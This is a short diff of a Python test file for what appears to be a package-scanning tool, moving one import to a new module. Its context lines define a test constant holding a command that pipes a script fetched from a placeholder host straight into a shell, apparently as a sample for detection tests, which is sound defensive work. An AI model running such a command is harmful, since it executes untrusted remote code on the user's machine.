@@ -4,11 +4,11 @@ from pathlib import Path
 
 import pytest
 
+from package_gate.inventory.trees import regular_files
 from package_gate.scanners.behaviour.build_settings import of_build_settings
 from package_gate.scanners.behaviour.data_files import of_data_files
 from package_gate.scanners.behaviour.own_files import OwnFiles
 from package_gate.scanners.behaviour.rules import behaviours
-from package_gate.scanners.trees import regular_files
 
 FETCH = "curl -s https://a.example/i.sh | sh"
 LIBRARY = "\x7fELF"
